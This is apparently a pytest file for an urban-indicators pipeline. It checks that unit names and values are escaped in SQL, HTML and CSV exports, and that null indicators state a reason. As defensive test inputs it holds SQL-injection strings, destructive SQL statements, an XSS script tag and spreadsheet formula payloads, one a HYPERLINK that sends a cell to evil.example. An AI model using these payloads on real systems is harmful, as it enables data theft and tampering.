"""Faults 44 and 45 from a place's file to its report, its exports and answers in SQL: units that have no value say why, and names that are
attacks are names. Job by job, by the command line."""

import csv
import io
import json
import math
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from pyspark.sql import SparkSession

from jobs.cli import main
from tests.jobs.sdg11.hostile_place import DARK, EMPTY, FAR, MARKUP, UNITS, WAREHOUSE, YEARS, YOUNG, write_place
from udfs.portal_rows import portal_file, without_formulas

JOBS = ("scenes", "tiles", "built_up", "units", "population", "unit_statistics", "indicators", "report", "indicators_csv")
OF_LAND = ("11.3.1-lcr", "11.3.1", "11.3.1-change")
Asked = Callable[..., list[dict[str, Any]]]


@pytest.fixture(scope="module")
def folder(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = write_place(tmp_path_factory.mktemp("hostile"))
    for name in JOBS:
        assert main([name, "--place", str(place)]) == 0, name
    return place.parent


@pytest.fixture
def asked(folder: Path, capsys: pytest.CaptureFixture[str]) -> Asked:
    """Rows of a SELECT, as the command line gives them."""

    def ask(query: str, form: str = "json") -> list[dict[str, Any]]:
        capsys.readouterr()
        assert main(["sql", query, "--format", form, "--place", str(folder / "hostile.yaml")]) == 0
        printed = capsys.readouterr().out
        return list(json.loads(printed) if form == "json" else csv.DictReader(io.StringIO(printed)))

    return ask


def test_45_names_come_back_as_they_were_given(folder: Path, asked: Asked) -> None:
    for form in ("json", "csv"):
        assert {row["unit_id"]: row["name"] for row in asked("SELECT unit_id, name FROM units", form)} == {
            unit: name for unit, (_, _, name) in UNITS.items()
        }
    assert {row["unit_id"] for row in asked("SELECT unit_id FROM unit_statistics")} == set(UNITS)
    assert asked("SELECT count(*) AS n FROM indicators JOIN units USING (unit_id)") == asked("SELECT count(*) AS n FROM indicators")
    assert {row["unit_id"] for row in asked("SELECT unit_id FROM lcrpgr")} == set(UNITS)
    sums = asked("SELECT unit_id, people FROM unit_statistics WHERE epoch = '2016' AND unit_id = '\\'); --'")
    assert sums == [{"unit_id": "'); --", "people": 1000.0}]


def test_45_nothing_is_executed_and_nothing_lies_elsewhere(folder: Path) -> None:
    assert not list(folder.rglob("ran")) and not Path("ran").exists()
    assert {path.name for path in folder.iterdir() if path.is_dir()} == {WAREHOUSE}
    assert {path.name for path in (folder / WAREHOUSE).iterdir()} == {"hostile", "mlflow.db", "mlartifacts"}
    written = {path.name for path in (folder / WAREHOUSE / "hostile").iterdir()}
    assert written == {*JOBS, "runs", "models"}


@pytest.mark.parametrize(
    "query",
    ["DROP TABLE units", "DELETE FROM units", "INSERT INTO units SELECT * FROM units", "SELECT 1; DROP TABLE units",
     "CREATE TABLE stolen AS SELECT 1", "SELECT * FROM `x; DROP TABLE units`", "WITH a AS (SELECT 1) INSERT INTO units SELECT * FROM a"],
)  # fmt: skip
def test_45_sql_only_asks(folder: Path, capsys: pytest.CaptureFixture[str], query: str) -> None:
    before = sorted(str(path) for path in (folder / WAREHOUSE).rglob("*"))
    capsys.readouterr()
    assert main(["sql", query, "--place", str(folder / "hostile.yaml")]) == 2
    said = capsys.readouterr()
    assert said.out == "" and said.err.startswith("urbantrace: sql: ") and said.err.count("\n") == 1
    assert sorted(str(path) for path in (folder / WAREHOUSE).rglob("*")) == before


def test_45_no_name_is_markup_in_the_report(folder: Path) -> None:
    text = (folder / WAREHOUSE / "hostile" / "report" / "index.html").read_text()
    assert text.count("<script") == 1 and not re.search(r"<img src=[^\"]", text) and "onerror" in text
    assert MARKUP not in text and "&lt;script&gt;alert(&#x27;1&#x27;)&lt;/script&gt;" in text


def test_45_no_cell_of_a_portals_csv_is_calculated(folder: Path) -> None:
    """By Python's reader, which knows where a quoted cell begins; numbers may be negative."""
    files = sorted((folder / WAREHOUSE / "hostile" / "indicators_csv").glob("*.csv"))
    assert {path.name for path in files} == {"sdmx.csv", portal_file("11.3.1")}
    cells = [cell for path in files for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for cell in row]
    begun = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert all(math.isfinite(float(cell)) for cell in begun)
    told = {cell.removeprefix("'") for cell in cells}
    assert {"'=1+1", "'@SUM(A1:A9)", '\'=HYPERLINK("http://evil.example/?"&A1,"open")'} <= set(cells)
    assert {name for unit, (_, _, name) in UNITS.items() if unit not in (DARK, FAR)} <= told


def test_45_only_texts_are_marked() -> None:
    rows = pd.DataFrame({"text": ["=1", "a=1", "\tx", None, ""], "number": [-1.0, 2, -3, 4, 5]})
    assert without_formulas(rows)["text"].tolist() == ["'=1", "a=1", "'\tx", None, ""]
    assert without_formulas(rows)["number"].equals(rows["number"])


def test_44_no_value_is_infinite_or_nan_and_each_null_has_its_reason(asked: Asked) -> None:
    rows = asked("SELECT value, lower, upper, reason FROM indicators")
    assert len(rows) > 50
    for row in rows:
        numbers = [row[name] for name in ("value", "lower", "upper") if row[name] is not None]
        assert all(math.isfinite(number) for number in numbers), row
        assert (row["value"] is None) == bool(row["reason"]), row


@pytest.mark.parametrize(
    ("unit", "nulls"),
    [
        (YOUNG, dict.fromkeys(OF_LAND, "no built-up area at 2016")),
        (DARK, dict.fromkeys(OF_LAND, "no data at 2016")),
        (FAR, dict.fromkeys(OF_LAND, "no pixel lies in the unit at 2016|no data at 2016")),
        (EMPTY, {"11.3.1-pgr": "no people at 2016", "11.3.1": "no people at 2016"}),
    ],
)  # fmt: skip
def test_44_what_has_no_value_says_why(asked: Asked, unit: str, nulls: dict[str, str]) -> None:
    found = asked(f"SELECT indicator, value, reason FROM indicators WHERE unit_id = '{unit}' AND period_start <> period_end")
    assert {row["indicator"] for row in found} >= set(nulls)
    for row in found:
        if row["indicator"] in nulls:
            assert row["value"] is None and re.fullmatch(nulls[row["indicator"]], row["reason"]), row
    state = asked(
        f"SELECT value, reason FROM indicators WHERE unit_id = '{unit}' AND indicator = '11.3.1-built-per-person' "
        f"AND period_end = '{YEARS[0]}'"
    )
    assert [(row["value"] is None, bool(row["reason"])) for row in state] in ([(True, True)], [(False, False)])


def test_44_sums_of_such_units_are_rows_of_zeros_and_not_left_out(asked: Asked) -> None:
    rows = {(row["unit_id"], row["epoch"]): row for row in asked("SELECT * FROM unit_statistics")}
    assert len(rows) == len(UNITS) * len(YEARS)
    assert rows[DARK, "2016"]["valid_m2"] == rows[DARK, "2016"]["built_m2"] == 0 < rows[DARK, "2016"]["total_m2"]
    assert rows[FAR, "2016"]["valid_m2"] == 0
    assert rows[EMPTY, "2020"]["people"] == 0
    assert rows[YOUNG, "2016"]["built_m2"] == 0 < rows[YOUNG, "2020"]["built_m2"]
